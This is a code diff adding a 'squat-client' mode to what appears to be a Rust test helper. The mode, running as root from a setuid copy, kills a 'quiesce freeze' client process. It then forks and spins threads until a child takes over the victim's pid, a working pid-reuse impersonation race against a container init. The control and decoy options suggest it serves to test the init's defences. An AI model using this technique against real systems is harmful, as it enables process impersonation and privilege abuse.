@@ -960,6 +960,155 @@ fn main() {
         // a pid: each hop forks, the parent exits, the child appends its pid to FILE and naps.
         // `hopper FILE [NAP_US] [newgroup]`: each hop naps NAP_US (default 200) microseconds;
         // with "newgroup" each hop also takes a process group of its own.
+        // Root for good through a setuid copy, escaped under the init (its parent exits), then:
+        // wait for a `quiesce freeze` client, kill it (its parent outside reaps it, so its pid is
+        // free at once), and fork and reap until a child gets the client's pid; that child stays
+        // (writes its pid to FILE), this process exits. `squat-client FILE`
+        "squat-client" => {
+            let out = std::env::args().nth(2).expect("squat-client FILE");
+            if raw_setresuid(0, 0, 0) != 0 {
+                fail("setresuid: squat-client needs a setuid-root copy");
+            }
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => forever(),
+            }
+            let mid = std::process::id() as i32;
+            match fork() {
+                0 => {}
+                p if p < 0 => fail("fork"),
+                _ => unsafe { libc::_exit(0) },
+            }
+            while unsafe { libc::getppid() } == mid {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            // A container that has run a while: the counter is past the reserved pids.
+            for _ in 0..400 {
+                match fork() {
+                    0 => unsafe { libc::_exit(0) },
+                    p if p > 0 => unsafe {
+                        libc::waitpid(p, std::ptr::null_mut(), 0);
+                    },
+                    _ => {}
+                }
+            }
+            ready();
+            // Find the client: a `quiesce freeze` process.
+            let until = std::time::Instant::now() + Duration::from_secs(60);
+            let target = loop {
+                if std::time::Instant::now() > until {
+                    std::process::exit(3);
+                }
+                let mut found = None;
+                for e in std::fs::read_dir("/proc").unwrap().flatten() {
+                    let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else { continue };
+                    let Ok(cmd) = std::fs::read(format!("/proc/{pid}/cmdline")) else { continue };
+                    let args: Vec<&[u8]> = cmd.split(|&b| b == 0).collect();
+                    if args.len() > 2 && args[0].ends_with(b"quiesce") && args[1] == b"freeze" {
+                        found = Some(pid);
+                    }
+                }
+                if let Some(p) = found {
+                    break p;
+                }
+                std::thread::sleep(Duration::from_micros(500));
+            };
+            // Let the request reach the init first.
+            std::thread::sleep(Duration::from_millis(50));
+            // "control" (argument 4): everything the same, but the child kept is the one that gets
+            // the pid after the client's (not the init's own).
+            let control = std::env::args().nth(4).as_deref() == Some("control");
+            // "command" (argument 5): the pid to take is the init's command's (the init's child
+            // named sleep), killed now; its pid is free once the init reaps it, during the freeze.
+            let on_command = std::env::args().nth(5).as_deref() == Some("command");
+            let client = if on_command {
+                let comm =
+                    |pid: i32| std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+                let mut cmd = None;
+                for e in std::fs::read_dir("/proc").unwrap().flatten() {
+                    let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else { continue };
+                    let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else { continue };
+                    let Some(rest) = stat.rsplit_once(") ").map(|x| x.1) else { continue };
+                    let ppid: i32 = rest.split(' ').nth(1).and_then(|x| x.parse().ok()).unwrap_or(0);
+                    if comm(ppid).trim() == "quiesce" && stat.contains("(sleep)") {
+                        cmd = Some(pid);
+                    }
+                }
+                cmd.unwrap_or_else(|| fail("no command under the init"))
+            } else {
+                target
+            };
+            unsafe { libc::kill(client, libc::SIGKILL) };
+            let target = if control { client + 1 } else { client };
+            let end = std::time::Instant::now() + Duration::from_secs(8);
+            let mut forks = 0u64;
+            // DECOY_UID: keep a few processes of the sandbox UID alive meanwhile, so that every
+            // observation has one to kill (a kill round, not the newcomer check's grace).
+            let decoy_uid: u32 = std::env::args().nth(3).and_then(|s| s.parse().ok()).unwrap_or(0);
+            let mut decoys: Vec<i32> = Vec::new();
+            while std::time::Instant::now() < end {
+                if decoy_uid > 0 {
+                    decoys.retain(|&d| unsafe { libc::waitpid(d, std::ptr::null_mut(), libc::WNOHANG) } == 0);
+                    while decoys.len() < 3 {
+                        match fork() {
+                            0 => {
+                                raw_setresuid(decoy_uid, decoy_uid, decoy_uid);
+                                forever();
+                            }
+                            p if p == target => unsafe { libc::_exit(0) },
+                            p if p > 0 => decoys.push(p),
+                            _ => break,
+                        }
+                    }
+                }
+                // Not reaped yet (the init reaps only inside the proof now): wait, decoys kept.
+                if std::path::Path::new(&format!("/proc/{client}")).exists() {
+                    std::thread::sleep(Duration::from_micros(200));
+                    continue;
+                }
+                // Far from the target: burn pids with threads (cheaper than processes).
+                let last: i32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+                    .ok()
+                    .and_then(|t| t.trim().parse().ok())
+                    .unwrap_or(0);
+                let ahead = if last < target { target - last } else { i32::MAX };
+                if ahead > 64 && last != target {
+                    let ts: Vec<_> = (0..32)
+                        .filter_map(|_| std::thread::Builder::new().stack_size(16 * 1024).spawn(|| {}).ok())
+                        .collect();
+                    for t in ts {
+                        let _ = t.join();
+                    }
+                    forks += 32;
+                    continue;
+                }
+                match fork() {
+                    0 => {
+                        if unsafe { libc::getpid() } == target {
+                            let _ = std::fs::write(&out, format!("{target} {forks}\n"));
+                            forever();
+                        }
+                        unsafe { libc::_exit(0) };
+                    }
+                    p if p == target => {
+                        for d in &decoys {
+                            unsafe { libc::kill(*d, libc::SIGKILL) };
+                        }
+                        unsafe { libc::_exit(0) }
+                    }
+                    p if p > 0 => {
+                        forks += 1;
+                        let mut st = 0;
+                        unsafe { libc::waitpid(p, &mut st, 0) };
+                    }
+                    _ => {}
+                }
+            }
+            let last = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid").unwrap_or_default();
+            let _ = std::fs::write(&out, format!("miss target {target} forks {forks} last {}", last.trim()));
+            std::process::exit(4);
+        }
         "hopper" => {
             let path = std::env::args().nth(2).expect("hopper FILE");
             let nap = arg(3, 200) as u32;
